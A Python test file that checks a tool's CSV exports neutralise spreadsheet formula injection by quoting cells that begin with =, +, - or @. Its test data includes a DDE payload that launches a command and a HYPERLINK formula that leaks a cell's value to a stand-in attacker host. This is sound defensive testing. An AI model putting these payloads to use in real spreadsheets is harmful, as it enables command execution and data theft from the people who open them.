"""CSV files of the inspector and `ararat check` contain only text, for any content of cells."""

from __future__ import annotations

import csv

import pytest

from ararat.bindings.checks.name_findings import NameFinding
from ararat.bindings.tables import spreadsheet
from ararat.cli.databases import check
from ararat.tracing.bulk import BulkTraceRow

FORMULAS = ["=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", '=HYPERLINK("https://evil.example/?"&A1;"ok")']


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_text(formula):
    assert next(csv.reader([spreadsheet.line([formula])])) == [f"'{formula}"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_traced_row_is_a_formula(formula):
    row = BulkTraceRow(formula, "dead", False, None, formula, 1, 0.1, formula, formula)
    cells = next(csv.reader([row.as_csv()]))
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []
    assert cells.count(f"'{formula}") == 4


def test_no_cell_of_a_check_is_a_formula(capsys):
    for number, formula in enumerate(FORMULAS, 1):
        check._as_csv(NameFinding(formula, "not-ascii", formula), number)  # pyright: ignore[reportPrivateUsage]
    header, *rows = csv.reader(capsys.readouterr().out.splitlines())
    assert header == list(NameFinding._fields)
    assert [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))] == []


@pytest.mark.parametrize("text", ["a,b", 'a"b', "a\nb", "\u202e", "\ud800", ""])
def test_any_text_is_one_cell_of_printable_ascii(text):
    line = spreadsheet.line([text, "end"])
    assert line[:-2].isascii()
    assert line[:-2].isprintable()
    assert len(next(csv.reader([line]))) == 2
